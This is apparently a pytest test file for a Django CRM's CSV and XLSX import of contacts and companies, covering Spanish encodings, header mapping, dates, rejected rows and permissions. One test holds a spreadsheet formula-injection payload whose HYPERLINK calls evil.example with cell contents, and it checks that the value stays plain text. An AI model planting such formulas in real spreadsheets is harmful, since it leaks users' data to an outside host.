import csv
import io
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied
from django.utils import translation

from clientela.customers.models import Company, Contact
from clientela.transfer.services import error_file

from .helpers import csv_bytes, run_import

pytestmark = pytest.mark.django_db


def test_spanish_excel_semicolon_cp1252_file(in_acme):
    admin = in_acme.users["admin"]
    data = csv_bytes([
        ["Nombre", "Apellidos", "Correo electrónico", "Móvil", "Ciudad", "País", "Empresa", "Fecha de nacimiento",
         "Estado"],
        ["José", "Álvarez Núñez", "jose@ejemplo.es", "612 34 56 78", "Logroño", "España", "Viñedos SL",
         "25/03/1980", "Cliente"],
        ["María", "Peña", "maria@ejemplo.es", "+34 699 111 222", "Cádiz", "Spain", "Viñedos SL", "01/02/1975",
         "Prospect"],
    ], delimiter=";", encoding="cp1252")
    job = run_import(admin, data, "clientes.csv")
    assert (job.created, job.rejected) == (2, 0), list(job.rows.values_list("errors", flat=True))
    jose = Contact.objects.get(first_name="José")
    assert jose.last_name == "Álvarez Núñez"
    assert jose.emails.get().email == "jose@ejemplo.es"
    assert jose.phones.get().number == "+34612345678"
    address = jose.addresses.get()
    assert (address.city, address.country.code) == ("Logroño", "ES")
    assert str(jose.birthday) == "1980-03-25"
    assert jose.lifecycle_status == "customer"
    assert jose.owner == admin
    assert Company.objects.filter(name="Viñedos SL").count() == 1
    assert Contact.objects.get(first_name="María").companies.get().name == "Viñedos SL"


def test_suggestions_for_other_crms_headers(in_acme):
    from clientela.registry import entities
    from clientela.transfer.mapping import suggest

    admin = in_acme.users["admin"]
    headers = ["First Name", "Last Name", "E-mail", "Phone Number", "Mailing City", "Mailing Country", "Account Name",
               "Owner Email", "Title", "Lead Source", "Unknown thing"]
    assert suggest(entities.get("contacts"), admin, headers) == {
        "First Name": "first_name", "Last Name": "last_name", "E-mail": "emails.email",
        "Phone Number": "phones.number", "Mailing City": "addresses.city", "Mailing Country": "addresses.country",
        "Account Name": "affiliations.company_name", "Owner Email": "owner", "Title": "job_title",
        "Lead Source": "source"}
    spanish = ["Nombre", "Apellidos", "Correo electrónico", "Teléfono", "Ciudad", "Empresa", "Propietario"]
    assert set(suggest(entities.get("contacts"), admin, spanish).values()) == {
        "first_name", "last_name", "emails.email", "phones.number", "addresses.city", "affiliations.company_name",
        "owner"}
    assert suggest(entities.get("companies"), admin, ["Empresa", "Facturación", "Sector"]) == {
        "Empresa": "name", "Facturación": "annual_revenue", "Sector": "industry"}


def test_companies_with_decimal_commas_and_spanish_picklist_labels(in_acme):
    admin = in_acme.users["admin"]
    data = csv_bytes([["Empresa", "Facturación", "Sector", "Tamaño"],
                      ["Bodegas Ruiz", "1.234.567,89", "Alimentación y bebidas", "10–49 empleados"],
                      ["Tech SL", "2500,5", "Technology", ""]], delimiter=";")
    with translation.override("es"):  # labels matched in either language whatever the active one
        job = run_import(admin, data, entity="companies", mapping={"Empresa": "name", "Facturación": "annual_revenue",
                                               "Sector": "industry", "Tamaño": "size"})
    assert (job.created, job.rejected) == (2, 0), list(job.rows.values_list("errors", flat=True))
    ruiz = Company.objects.get(name="Bodegas Ruiz")
    assert (ruiz.annual_revenue, ruiz.industry) == (Decimal("1234567.89"), "food")
    assert Company.objects.get(name="Tech SL").annual_revenue == Decimal("2500.50")


def test_month_first_dates_are_detected(in_acme):
    data = csv_bytes([["First Name", "Birthday"], ["Ann", "03/25/1980"], ["Bob", "04/01/1990"]])
    run_import(in_acme.users["admin"], data)
    assert str(Contact.objects.get(first_name="Bob").birthday) == "1990-04-01"
    data = csv_bytes([["First Name", "Birthday"], ["Cid", "04/01/1990"]])
    run_import(in_acme.users["admin"], data, date_order="dmy")
    assert str(Contact.objects.get(first_name="Cid").birthday) == "1990-01-04"


def test_formula_injection_stays_text(in_acme):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    data = csv_bytes([["First Name", "Last Name", "Job Title"], [evil, "+1+1", "@SUM(A1)"]])
    job = run_import(in_acme.users["admin"], data)
    assert job.created == 1
    contact = Contact.objects.get()
    assert (contact.first_name, contact.last_name, contact.job_title) == (evil, "+1+1", "@SUM(A1)")


def test_rejected_rows_name_field_and_rule_and_the_error_file(in_acme):
    data = csv_bytes([["First Name", "Email", "Phone", "Owner"],
                      ["Ok", "ok@x.es", "612345678", "rep@acme.example"],
                      ["", "bad-email", "123", "nobody@nowhere"],
                      ["Owner by name", "", "", "Rep Acme"]])
    job = run_import(in_acme.users["admin"], data)
    assert (job.created, job.rejected) == (2, 1)
    errors = job.rows.get(action="rejected").errors
    fields = {e["field"] for e in errors}
    assert {"First name", "Owner"} <= fields and any("Email" in f for f in fields) and any("Phone" in f for f in fields)
    assert Contact.objects.get(first_name="Owner by name").owner == in_acme.users["rep"]
    lines = list(csv.reader(io.StringIO(error_file(job))))
    assert lines[0] == ["First Name", "Email", "Phone", "Owner", "errors"]
    assert lines[1][:4] == ["", "bad-email", "123", "nobody@nowhere"] and "First name" in lines[1][4]


def test_dry_run_writes_nothing(in_acme):
    data = csv_bytes([["First Name", "Email", "Company"], ["Ana", "ana@x.es", "New Co"], ["", "", ""],
                      ["", "broken", ""]])
    job = run_import(in_acme.users["admin"], data, dry_run=True)
    assert (job.created, job.rejected, job.status) == (1, 1, "done")
    assert not Contact.objects.exists() and not Company.objects.exists()


def test_multi_line_address_and_utf16(in_acme):
    data = csv_bytes([["Nombre", "Dirección", "Ciudad", "Código postal"],
                      ["Ana", "Calle Mayor 1\n2º B", "Madrid", "28013"]], delimiter="\t", encoding="utf-16")
    run_import(in_acme.users["admin"], data)
    address = Contact.objects.get().addresses.get()
    assert (address.street, address.city, address.postal_code) == ("Calle Mayor 1\n2º B", "Madrid", "28013")


def test_user_without_import_permission_cannot_import(in_acme):
    with pytest.raises(PermissionDenied):
        run_import(in_acme.users["rep"], csv_bytes([["First Name"], ["Ana"]]))


def test_tags_and_custom_sized_batches(in_acme):
    data = csv_bytes([["First Name", "Tags"], ["Ana", "VIP, feria 2025"], ["Luis", ""], ["Eva", "vip"]])
    job = run_import(in_acme.users["admin"], data, batch_size=2)
    assert job.created == 3
    assert sorted(t.name for t in Contact.objects.get(first_name="Ana").tags.all()) == ["VIP", "feria 2025"]
    assert [t.name for t in Contact.objects.get(first_name="Eva").tags.all()] == ["VIP"]
    assert not Contact.objects.get(first_name="Luis").tags.exists()


def test_xlsx_chosen_sheet_and_companies_matched_by_name(in_acme):
    from .test_readers import xlsx

    admin = in_acme.users["admin"]
    Company.objects.create(workspace=in_acme, name="Ñandú Logística", owner=admin)
    data = xlsx({"Notas": [["x"]], "Cuentas": [["Account Name", "Industry", "Annual Revenue", "Billing City"],
                                             ["nandu logistica", "Transporte y logística", 1500000.5, "Vigo"],
                                             ["Nueva SA", "Retail", 10, "Lugo"], [None, None, None, None]]})
    job = run_import(admin, data, "cuentas.xlsx", entity="companies", sheet="Cuentas")
    assert (job.created, job.duplicates, job.rejected) == (1, 1, 0), list(job.rows.values_list("errors", flat=True))
    nueva = Company.objects.get(name="Nueva SA")
    assert (nueva.industry, nueva.addresses.get().city) == ("retail", "Lugo")
